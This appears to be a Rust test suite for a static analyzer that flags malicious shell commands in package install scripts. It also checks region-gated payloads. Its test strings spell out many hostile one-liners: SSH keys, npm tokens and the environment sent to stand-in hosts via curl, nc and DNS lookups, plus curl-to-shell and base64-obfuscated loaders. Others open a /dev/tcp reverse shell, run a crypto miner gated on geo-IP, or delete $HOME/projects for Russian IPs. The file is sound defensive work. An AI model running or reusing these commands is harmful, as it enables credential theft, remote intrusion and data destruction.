use telltale_facts::{DataKind, SinkKind};

use crate::{analyze_shell, ShellAnalysis};

fn an(s: &str) -> ShellAnalysis {
    analyze_shell(s, 0)
}

fn quiet(s: &str) {
    let a = an(s);
    assert!(a.flows.is_empty(), "{s}: unexpected flows {:#?}", a.flows);
    assert!(
        a.dynamic_code.is_empty(),
        "{s}: unexpected dynamic code {:#?}",
        a.dynamic_code
    );
}

fn hosts(a: &ShellAnalysis) -> Vec<&str> {
    a.endpoints.iter().map(|e| e.host.as_str()).collect()
}

fn runs(a: &ShellAnalysis) -> Vec<(&str, &str)> {
    a.runs
        .iter()
        .map(|r| (r.interpreter.as_str(), r.path.as_str()))
        .collect()
}

fn at(s: &str, span: telltale_facts::Span) -> &str {
    &s[span.start as usize..span.end as usize]
}

#[test]
fn nslookup_backtick_hostname() {
    let s = "nslookup `hostname`.robotnowai.top";
    let a = an(s);
    assert_eq!(a.flows.len(), 1);
    let f = &a.flows[0];
    assert_eq!(f.sink, SinkKind::Dns);
    assert_eq!(f.sink_api, "nslookup");
    assert!(f.kinds.contains(DataKind::Hostname));
    assert_eq!(f.endpoints, vec!["robotnowai.top"]);
    assert_eq!(hosts(&a), vec!["robotnowai.top"]);
    assert_eq!(f.steps.len(), 2);
    assert_eq!(f.steps[0].what, "hostname");
    assert_eq!(at(s, f.steps[0].span), "hostname");
    assert_eq!(at(s, f.span), s);
    assert!(a
        .sources
        .iter()
        .any(|x| x.kind == DataKind::Hostname && x.api == "hostname"));
}

#[test]
fn ssh_key_through_variable() {
    let s = "a=$(cat $HOME/.ssh/id_rsa.pub) && curl -X POST -d \"payload=$a\" https://nameless.herokuapp.com/p";
    let a = an(s);
    assert_eq!(a.flows.len(), 1, "{:#?}", a.flows);
    let f = &a.flows[0];
    assert_eq!(f.sink, SinkKind::Http);
    assert_eq!(f.sink_api, "curl");
    assert!(f.kinds.contains(DataKind::SshKey));
    // The path prefix $HOME is not itself sent.
    assert!(!f.kinds.contains(DataKind::HomeDir));
    assert_eq!(f.endpoints, vec!["nameless.herokuapp.com"]);
    assert_eq!(f.steps.len(), 3, "{:#?}", f.steps);
    assert_eq!(f.steps[0].what, "cat $HOME/.ssh/id_rsa.pub");
    assert_eq!(at(s, f.steps[1].span), "a=$(cat $HOME/.ssh/id_rsa.pub)");
    assert!(f.steps[2].what.starts_with("curl -X POST"));
    assert!(a
        .sources
        .iter()
        .any(|x| x.kind == DataKind::SshKey && x.api == "~/.ssh/id_rsa.pub"));
    assert!(!a.sources.iter().any(|x| x.kind == DataKind::HomeDir));
    assert_eq!(
        a.endpoints[0].url.as_deref(),
        Some("https://nameless.herokuapp.com/p")
    );
}

#[test]
fn whole_env_in_data() {
    let a = an("curl -d \"$(env)\" https://x.example");
    assert_eq!(a.flows.len(), 1);
    assert!(a.flows[0].kinds.contains(DataKind::WholeEnvironment));
    assert_eq!(a.flows[0].endpoints, vec!["x.example"]);
}

#[test]
fn env_piped_through_base64() {
    let a = an("env | base64 | curl -d @- https://x.io");
    assert_eq!(a.flows.len(), 1);
    let f = &a.flows[0];
    assert!(f.kinds.contains(DataKind::WholeEnvironment));
    assert_eq!(f.endpoints, vec!["x.io"]);
    let what: Vec<&str> = f.steps.iter().map(|s| s.what.as_str()).collect();
    assert_eq!(what, vec!["env", "base64", "curl -d @- https://x.io"]);
}

#[test]
fn dig_user_and_host() {
    let a = an("dig $(whoami).$(hostname).attacker.com");
    let f = &a.flows[0];
    assert_eq!(f.sink, SinkKind::Dns);
    assert!(f.kinds.contains(DataKind::Username) && f.kinds.contains(DataKind::Hostname));
    assert_eq!(f.endpoints, vec!["attacker.com"]);
}

#[test]
fn ping_oast() {
    let a = an("ping -c1 $(hostname).x.oast.fun");
    let f = &a.flows[0];
    assert_eq!(f.sink, SinkKind::Dns);
    assert_eq!(f.sink_api, "ping");
    assert_eq!(f.endpoints, vec!["x.oast.fun"]);
}

#[test]
fn wget_post_data_user() {
    let a = an("wget --post-data=\"u=$USER\" http://1.2.3.4/");
    let f = &a.flows[0];
    assert_eq!(f.sink, SinkKind::Http);
    assert_eq!(f.sink_api, "wget");
    assert!(f.kinds.contains(DataKind::Username));
    assert_eq!(f.endpoints, vec!["1.2.3.4"]);
    assert!(a.sources.iter().any(|s| s.api == "$USER"));
}

#[test]
fn curl_pipe_sh() {
    let a = an("curl https://x.example/install.sh | sh");
    assert!(a.flows.is_empty());
    assert_eq!(a.dynamic_code.len(), 1);
    let d = &a.dynamic_code[0];
    assert!(d.from_network);
    assert_eq!(d.api, "curl | sh");
    assert_eq!(d.steps.len(), 2);
    assert_eq!(hosts(&a), vec!["x.example"]);
}

#[test]
fn other_remote_code_forms() {
    for (s, api) in [
        ("wget -O- https://a.example/x | bash", "wget | bash"),
        (
            "wget -qO- https://a.example/x | sudo bash -s -- --flag",
            "wget | bash",
        ),
        ("eval \"$(curl -fsSL https://a.example/x)\"", "eval $(curl)"),
        ("bash <(curl -s https://a.example/x)", "bash <(curl)"),
        ("source <(curl -s https://a.example/x)", "source <(curl)"),
        (
            "python -c \"$(curl -s https://a.example/x.py)\"",
            "python -c $(curl)",
        ),
        (
            "python3 -c \"$(curl -s https://a.example/x.py)\"",
            "python3 -c $(curl)",
        ),
        (
            "sh -c \"$(curl -fsSL https://a.example/x)\"",
            "sh -c $(curl)",
        ),
        (
            "node -e \"$(curl -fsSL https://a.example/x.js)\"",
            "node -e $(curl)",
        ),
        ("curl -s https://a.example/x | base64 -d | sh", "curl | sh"),
        ("exec 3<>/dev/tcp/1.2.3.4/80; cat <&3 | sh", "/dev/tcp | sh"),
    ] {
        let a = an(s);
        assert_eq!(a.dynamic_code.len(), 1, "{s}: {:#?}", a.dynamic_code);
        assert_eq!(a.dynamic_code[0].api, api, "{s}");
        assert!(a.dynamic_code[0].from_network);
    }
    let a = an("curl -fsSL https://a.example/i.sh -o /tmp/i.sh && bash /tmp/i.sh");
    assert_eq!(a.dynamic_code.len(), 1, "{:#?}", a.dynamic_code);
    assert!(a.runs.is_empty());
    let a = an("wget https://a.example/payload.sh && chmod +x payload.sh && ./payload.sh");
    assert_eq!(a.dynamic_code.len(), 1, "{:#?}", a.dynamic_code);
}

#[test]
fn decoded_code_is_analysed() {
    // "curl -d @$HOME/.npmrc https://e.example" in base64, piped to sh.
    let s = "echo Y3VybCAtZCBAJEhPTUUvLm5wbXJjIGh0dHBzOi8vZS5leGFtcGxl | base64 -d | sh";
    let a = an(s);
    assert_eq!(a.dynamic_code.len(), 1);
    assert!(!a.dynamic_code[0].from_network);
    assert_eq!(a.dynamic_code[0].api, "base64 -d | sh");
    assert_eq!(a.flows.len(), 1, "{a:#?}");
    assert!(a.flows[0].kinds.contains(DataKind::NpmToken));
    assert_eq!(a.flows[0].endpoints, vec!["e.example"]);
    // Facts from decoded text point at the command that runs it.
    assert_eq!(at(s, a.flows[0].span), "sh");
    // Reversed text, printf escapes.
    let a = an("echo 'hs | moc.elpmaxe.a//:sptth lruc' | rev | sh");
    assert!(
        a.dynamic_code
            .iter()
            .any(|d| d.api == "curl | sh" && d.from_network),
        "{:#?}",
        a.dynamic_code
    );
    // A command name spelled with printf escapes still runs `hostname`.
    let a = an(r"H=$($(printf '\x68\x6f\x73\x74\x6e\x61\x6d\x65')); nslookup $H.x.example");
    assert!(a.flows[0].kinds.contains(DataKind::Hostname), "{:#?}", a);
}

#[test]
fn runs_node_script() {
    assert_eq!(
        runs(&an("node preinstall.js")),
        vec![("node", "preinstall.js")]
    );
    let a = an("node update.js && npm install electron");
    assert_eq!(runs(&a), vec![("node", "update.js")]);
    quiet("node update.js && npm install electron");
}

#[test]
fn runs_local_shell_script() {
    let s = "chmod +x malscript.sh && ./malscript.sh";
    let a = an(s);
    assert_eq!(runs(&a), vec![("sh", "malscript.sh")]);
    assert_eq!(at(s, a.runs[0].span), "./malscript.sh");
    assert_eq!(runs(&an("sh ./x.sh")), vec![("sh", "x.sh")]);
    assert_eq!(runs(&an("bash x.sh arg")), vec![("sh", "x.sh")]);
    assert_eq!(runs(&an(". ./env.sh")), vec![("sh", "env.sh")]);
    assert_eq!(
        runs(&an("python setup.py install")),
        vec![("python", "setup.py")]
    );
    assert_eq!(runs(&an("python3 -u x.py")), vec![("python", "x.py")]);
    assert_eq!(
        runs(&an("node --no-warnings ./x.js --flag")),
        vec![("node", "x.js")]
    );
    assert_eq!(
        runs(&an("node --max-old-space-size=4096 x.js")),
        vec![("node", "x.js")]
    );
    assert_eq!(
        runs(&an("node -r ./hook.js main.js")),
        vec![("node", "hook.js"), ("node", "main.js")]
    );
    assert_eq!(
        runs(&an("node node_modules/.bin/x")),
        vec![("node", "node_modules/.bin/x")]
    );
    assert_eq!(
        runs(&an("cd scripts && node post.js")),
        vec![("node", "scripts/post.js")]
    );
    assert_eq!(runs(&an("sh -c 'node a.js'")), vec![("node", "a.js")]);
    assert_eq!(runs(&an("./bin/x.js")), vec![("node", "bin/x.js")]);
    assert!(runs(&an("npx some-bin")).is_empty());
    assert!(runs(&an("python -m pip install x")).is_empty());
    assert!(runs(&an("node")).is_empty());
    assert!(runs(&an("node $DIR/x.js")).is_empty());
}

#[test]
fn node_eval_is_inline_code() {
    let s = r#"node -e "try{require('./_postinstall')}catch(e){}" || exit 0"#;
    let a = an(s);
    assert!(a.runs.is_empty());
    assert_eq!(a.inline_code.len(), 1);
    let c = &a.inline_code[0];
    assert_eq!(c.interpreter, "node");
    assert_eq!(c.code, "try{require('./_postinstall')}catch(e){}");
    assert_eq!(at(s, c.span), c.code);
    quiet(s);
    let a = an("python -c 'import os; print(os.getcwd())'");
    assert_eq!(a.inline_code[0].interpreter, "python");
    assert_eq!(a.inline_code[0].code, "import os; print(os.getcwd())");
    let a = an(r#"node -p "require(\"os\").hostname()""#);
    assert_eq!(a.inline_code[0].code, r#"require("os").hostname()"#);
}

#[test]
fn background_run_with_prefix_assignment() {
    let s = "BUILD_ID=.temp-build nohup node update.js >/dev/null 2>&1 &";
    assert_eq!(runs(&an(s)), vec![("node", "update.js")]);
    quiet(s);
}

#[test]
fn benign_scripts_are_quiet() {
    for s in [
        "node-gyp rebuild",
        "husky install",
        "husky install && npm run prepare:hooks",
        "prebuild-install || node-gyp rebuild",
        "node scripts/postinstall.js",
        "curl -fsSL https://example.com/install.tgz -o x.tgz",
        "echo $HOME",
        "npm run build",
        "tsc",
        "patch-package",
        "opencollective-postinstall",
        "node -e \"console.log(1)\"",
        "curl -o $HOME/x https://a.example/x",
        "curl -o \"$HOME/.cache/x.tgz\" https://a.example/x.tgz",
        "wget -O $HOME/x.tgz https://a.example/x.tgz",
        "curl -fsSL https://example.com/x.tgz | tar xz -C $HOME/.cache",
        "esbuild node-ipc.js --bundle --format=cjs --target=es2018 --platform=node --outfile=node-ipc.cjs",
        "echo \"Hello $USER\"",
        "git config user.email > /dev/null || true",
        "mkdir -p $HOME/.cache/x && cp -r dist $HOME/.cache/x",
        "if [ -f ~/.npmrc ]; then echo found; fi",
        "ssh -i ~/.ssh/id_rsa -T git@github.com",
        "node-pre-gyp install --fallback-to-build",
        "cross-env NODE_ENV=production node build.js",
        "test -d .git && husky install || true",
        "[ \"$CI\" = true ] || node ./scripts/check.js",
        "rimraf dist && tsc -p tsconfig.build.json",
        "curl -sSfL https://example.com/v1/bin-$(uname -s)-$(uname -m).tar.gz | tar xz",
        "ping -c 1 registry.npmjs.org",
        "dig +short example.com",
    ] {
        quiet(s);
    }
    let a = an("node scripts/postinstall.js");
    assert!(a.sources.is_empty() && a.endpoints.is_empty());
    let a = an("curl -fsSL https://example.com/install.tgz -o x.tgz");
    assert_eq!(hosts(&a), vec!["example.com"]);
    assert!(an("curl -o $HOME/x https://a.example/x").sources.is_empty());
}

#[test]
fn pipes_and_files() {
    let a = an("hostname | curl -d @- https://x.example");
    assert!(a.flows[0].kinds.contains(DataKind::Hostname));
    // curl does not read stdin unless told to.
    quiet("hostname | curl https://x.example");
    let a = an("curl -F \"f=@$HOME/.ssh/id_rsa\" https://x.example/u");
    assert!(a.flows[0].kinds.contains(DataKind::SshKey));
    assert!(!a.flows[0].kinds.contains(DataKind::HomeDir));
    let a = an("curl --data-binary @/etc/machine-id https://x.example");
    assert!(a.flows[0].kinds.contains(DataKind::MachineId));
    let a = an("whoami > /tmp/u; curl --data-binary @/tmp/u https://x.example");
    assert!(a.flows[0].kinds.contains(DataKind::Username));
    let a = an("cat ~/.npmrc | nc evil.example 4444");
    assert_eq!(a.flows[0].sink, SinkKind::Socket);
    assert_eq!(a.flows[0].sink_api, "nc");
    assert!(a.flows[0].kinds.contains(DataKind::NpmToken));
    let a = an("nc evil.example 4444 < ~/.ssh/id_rsa");
    assert!(a.flows[0].kinds.contains(DataKind::SshKey));
    let a = an("env > /dev/tcp/10.0.0.1/80");
    assert_eq!(a.flows[0].sink, SinkKind::Socket);
    assert_eq!(a.flows[0].endpoints, vec!["10.0.0.1"]);
    let a = an("hostname | xargs -I{} curl https://{}.x.example/");
    assert!(a.flows[0].kinds.contains(DataKind::Hostname));
    assert_eq!(a.flows[0].endpoints, vec!["x.example"]);
    let a = an("curl -H \"X-Token: $NPM_TOKEN\" https://x.example");
    assert!(a.flows[0].kinds.contains(DataKind::SecretEnv));
    let a = an("curl \"https://x.example/?h=$(hostname)&u=$(id -un)&d=$(pwd)\"");
    let k = a.flows[0].kinds;
    assert!(
        k.contains(DataKind::Hostname)
            && k.contains(DataKind::Username)
            && k.contains(DataKind::WorkingDirectory)
    );
    let a = an("curl -s -X POST https://x.example -d \"$(uname -a)\"");
    assert!(a.flows[0].kinds.contains(DataKind::OsRelease));
    let a = an("curl -d \"e=$(git config user.email)\" https://x.example");
    assert!(a.flows[0].kinds.contains(DataKind::GitConfig));
    let a = an("ifconfig | curl -T - https://x.example");
    assert!(a.flows[0].kinds.contains(DataKind::NetworkInterfaces));
    let a = an("for f in ~/.ssh/*; do curl -F \"k=@$f\" https://x.example; done");
    assert!(
        a.flows[0].kinds.contains(DataKind::SshKey),
        "{:#?}",
        a.flows
    );
    let a = an("scp ~/.ssh/id_rsa u@evil.example:/tmp/");
    assert_eq!(a.flows[0].sink, SinkKind::NetworkCommand);
    assert_eq!(a.flows[0].endpoints, vec!["evil.example"]);
    let a = an("U=$USER\nH=$(hostname)\ncurl https://x.example/$U/$H");
    assert!(
        a.flows[0].kinds.contains(DataKind::Username)
            && a.flows[0].kinds.contains(DataKind::Hostname)
    );
}

#[test]
fn static_variables_are_followed() {
    let a = an("URL=https://collect.example/c\ncurl -d \"$(whoami)\" $URL");
    assert_eq!(a.flows[0].endpoints, vec!["collect.example"]);
    let a = an("D=x.oast.example; nslookup $(hostname).$D");
    assert_eq!(a.flows[0].endpoints, vec!["x.oast.example"]);
}

#[test]
fn cloud_metadata_is_a_source() {
    let a = an("r=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/) && curl -d \"$r\" https://x.example");
    assert!(a.sources.iter().any(|s| s.kind == DataKind::CloudMetadata));
    assert_eq!(a.flows.len(), 1);
    assert!(a.flows[0].kinds.contains(DataKind::CloudMetadata));
    assert_eq!(a.flows[0].endpoints, vec!["x.example"]);
}

#[test]
fn multi_line_script() {
    let s = "#!/bin/sh\n# collect\nH=$(hostname)\nU=`whoami`\nexport D=\"$H|$U\"\n\nif [ -n \"$D\" ]; then\n  curl -s \"https://t.example/c?d=$D\" >/dev/null 2>&1\nfi\n";
    let a = an(s);
    assert_eq!(a.flows.len(), 1, "{:#?}", a.flows);
    let f = &a.flows[0];
    assert!(f.kinds.contains(DataKind::Hostname) && f.kinds.contains(DataKind::Username));
    assert_eq!(f.endpoints, vec!["t.example"]);
    assert!(at(s, f.span).starts_with("curl -s"), "{}", at(s, f.span));
}

#[test]
fn heredocs() {
    let s = "node <<'EOF'\nconsole.log(require('os').hostname())\nEOF\n";
    let a = an(s);
    assert_eq!(a.inline_code.len(), 1);
    assert_eq!(
        a.inline_code[0].code,
        "console.log(require('os').hostname())\n"
    );
    assert_eq!(at(s, a.inline_code[0].span), a.inline_code[0].code);
    let s = "curl -d @- https://x.example <<EOF\n$(hostname)\nEOF\necho done";
    let a = an(s);
    assert!(a.flows[0].kinds.contains(DataKind::Hostname));
    assert_eq!(at(s, a.flows[0].steps[0].span), "hostname");
}

#[test]
fn sh_c_is_analysed_in_place() {
    let s = "sh -c 'nslookup $(hostname).x.example'";
    let a = analyze_shell(s, 100);
    assert_eq!(a.flows.len(), 1);
    let st = &a.flows[0].steps[0];
    assert_eq!(st.what, "hostname");
    assert_eq!(
        &s[st.span.start as usize - 100..st.span.end as usize - 100],
        "hostname"
    );
}

#[test]
fn spans_include_base() {
    let a = analyze_shell("node x.js", 40);
    assert_eq!(a.runs[0].span.start, 40);
    assert_eq!(a.runs[0].span.end, 49);
}

#[test]
fn hostile_input_is_bounded() {
    use std::time::Instant;
    let inputs = [
        "$(".repeat(500_000),
        "$(".repeat(300_000) + "'\"`",
        "\"'$(`${".repeat(150_000),
        "`".repeat(1_000_000),
        "a=(".repeat(300_000),
        "${a:-".repeat(200_000),
        "((((".repeat(250_000),
        "<<EOF\n".repeat(150_000),
        format!("curl \"{}", "x".repeat(1_000_000)),
        "\\".repeat(1_000_001),
        "$'\\x".repeat(250_000),
        "eval \"$(echo ".repeat(60_000),
        "sh -c '".repeat(100_000),
        "a=$b$b$b; b=$a$a$a; ".repeat(40_000),
        "echo x | base64 -d | sh; ".repeat(40_000),
    ];
    for s in &inputs {
        let t = Instant::now();
        let _ = analyze_shell(s, u32::MAX - 10);
        assert!(t.elapsed().as_secs() < 5, "slow on {:?}…", &s[..20]);
    }
}

#[test]
fn deep_but_valid_nesting() {
    let mut s = "$(hostname)".to_string();
    for _ in 0..60 {
        s = format!("$(echo {s})");
    }
    let a = an(&format!("curl -d {s} https://x.example"));
    assert!(a.flows[0].kinds.contains(DataKind::Hostname));
    // Fits the default stack of worker threads (rayon: 2 MiB) even at the depth limit.
    let big = format!(
        "curl -d {} https://x.example",
        "$(echo \"${x:-`".repeat(5000)
    );
    std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(move || analyze_shell(&big, 0))
        .unwrap()
        .join()
        .unwrap();
}

#[test]
fn reverse_shell_and_windows_vars() {
    let a = an("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1");
    assert_eq!(a.dynamic_code.len(), 1);
    assert_eq!(a.dynamic_code[0].api, "/dev/tcp | bash");
    assert_eq!(hosts(&a), vec!["1.2.3.4"]);
    let a = an("ping -n 1 %USERNAME%.x.example");
    assert!(a.flows[0].kinds.contains(DataKind::Username));
    assert_eq!(a.flows[0].endpoints, vec!["x.example"]);
    quiet("echo 100%% done");
}

#[test]
fn dns_needs_a_domain() {
    quiet("ping -c 1 $(hostname)");
    quiet("nslookup $HOSTNAME");
    let a = an("N=$(hostname).evil.example; nslookup $N");
    assert_eq!(a.flows[0].endpoints, vec!["evil.example"]);
}

#[test]
fn curl_over_a_unix_socket_stays_local() {
    quiet("curl -s --unix-socket /run/docker.sock http://docker/containers/$HOSTNAME/json");
    assert_eq!(an("curl -s http://x.example/$HOSTNAME").flows.len(), 1);
}

#[test]
fn commands_built_elsewhere_carry_their_inputs() {
    use crate::analyze_command;
    use telltale_facts::{Kinds, Span};
    let span = Span::new(10, 20);
    let data = vec![("TT_PY_0".to_string(), Kinds::of(DataKind::Username))];
    let a = analyze_command("dig +short ${TT_PY_0}.x.example", span, &data);
    assert_eq!(a.flows.len(), 1);
    assert_eq!(a.flows[0].sink, SinkKind::Dns);
    assert_eq!(a.flows[0].span, span);
    assert_eq!(a.flows[0].endpoints, vec!["x.example"]);
    // What a command prints.
    assert!(analyze_command("whoami", span, &[])
        .output
        .contains(DataKind::Username));
    assert!(analyze_command("wmic csproduct get uuid", span, &[])
        .output
        .contains(DataKind::MachineId));
    assert_eq!(
        analyze_command("curl -s https://x.example/p", span, &[])
            .output_from
            .as_deref(),
        Some("curl")
    );
    assert!(analyze_command("echo hi", span, &[]).output_from.is_none());
    // Paths the catalog and the shell know.
    assert_eq!(
        crate::sensitive_path("~/.ssh/id_rsa").map(|p| p.0),
        Some(DataKind::SshKey)
    );
    assert_eq!(
        crate::sensitive_path("/sys/class/net/*/address").map(|p| p.0),
        Some(DataKind::NetworkInterfaces)
    );
    assert!(crate::sensitive_path("/tmp/x").is_none());
    // Stored credentials: logins, browser stores, keychains, wallets; not a package's own
    // files that share a name.
    for path in [
        "~/.aws/credentials",
        "~/.docker/config.json",
        "~/.kube/config",
        "~/.git-credentials",
        "~/.config/gh/hosts.yml",
        "~/.config/google-chrome/Default/Login Data",
        "*/Google/Chrome/User Data/Default/Network/Cookies",
        "~/Library/Application Support/Firefox/Profiles/*/logins.json",
        "~/Library/Keychains/login.keychain-db",
        "~/.bitcoin/wallet.dat",
        "*/User Data/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn",
    ] {
        assert_eq!(
            crate::sensitive_path(path).map(|p| p.0),
            Some(DataKind::StoredCredentials),
            "{path}"
        );
    }
    for path in ["./Cookies", "src/Local State", "test/fixtures/Login Data"] {
        assert!(crate::sensitive_path(path).is_none(), "{path}");
    }
}

// ----------------------------------------------------------------------- region tests (#17)

fn guards(s: &str) -> Vec<telltale_facts::RegionGuardFact> {
    an(s).region_guards
}

#[test]
fn geo_ip_answer_grepped_into_a_variable_runs_a_miner_only_outside() {
    // The issue's postinstall: the miner runs only when the answer is not RU, UA, BY or KZ.
    let s = "C=$(curl -s https://ipinfo.io/country | grep 'RU\\|UA\\|BY\\|KZ')\nif [ -z \"$C\" ]; then\n  ./xmrig -o pool.example.net:3333 &\nfi\n";
    let g = guards(s);
    assert_eq!(g.len(), 1, "{g:#?}");
    assert_eq!(g[0].countries, vec!["BY", "KZ", "RU", "UA"]);
    assert!(g[0].outside, "{g:#?}");
    assert_eq!(g[0].effects, vec![telltale_facts::Effect::Exec]);
    assert!(
        at(s, g[0].guarded).contains("xmrig"),
        "{}",
        at(s, g[0].guarded)
    );
    assert!(
        g[0].steps.iter().any(|st| st.what.contains("ipinfo.io")),
        "{:#?}",
        g[0].steps
    );
}

#[test]
fn time_zone_and_language_tests_with_and_or_if() {
    let g = guards("[ \"$TZ\" = \"Europe/Moscow\" ] && curl -s https://x.example.net/ping");
    assert_eq!(g.len(), 1, "{g:#?}");
    assert_eq!(g[0].countries, vec!["RU"]);
    assert!(!g[0].outside);
    assert_eq!(g[0].effects, vec![telltale_facts::Effect::Network]);
    // The same notice in two languages is a localized message.
    let g = guards(
        "if [[ $LANG == zh_CN* ]]; then\n  echo '此包已弃用'\nelse\n  echo 'deprecated'\nfi",
    );
    assert_eq!(g.len(), 1, "{g:#?}");
    assert_eq!(g[0].countries, vec!["CN"]);
    assert_eq!(g[0].effects, vec![telltale_facts::Effect::Localized]);
    // `||`: runs when the test fails.
    let g = guards("[ \"$TZ\" != \"Asia/Shanghai\" ] || export MIRROR=https://npmmirror.com");
    assert!(
        g.iter()
            .all(|g| g.effects.is_empty() || g.countries == vec!["CN"]),
        "{g:#?}"
    );
}

#[test]
fn words_that_are_not_region_data_are_no_region_test() {
    for s in [
        "if [ \"$1\" = \"no\" ]; then exit 1; fi",
        "STATUS=$(cat status.txt); [ \"$STATUS\" = \"in\" ] && ./run.sh",
        "curl -s https://example.com/list | grep RU && ./x",
        "if [ -z \"$NODE_ENV\" ]; then node build.js; fi",
    ] {
        assert!(guards(s).is_empty(), "{s}: {:#?}", guards(s));
    }
}

#[test]
fn a_grep_q_pipeline_is_an_if_test() {
    let s =
        "if curl -s https://ipapi.co/country | grep -q 'RU'; then\n  rm -rf \"$HOME/projects\"\nfi";
    let g = guards(s);
    assert_eq!(g.len(), 1, "{g:#?}");
    assert_eq!(g[0].countries, vec!["RU"]);
    assert!(!g[0].outside);
    assert_eq!(g[0].effects, vec![telltale_facts::Effect::Destructive]);
}
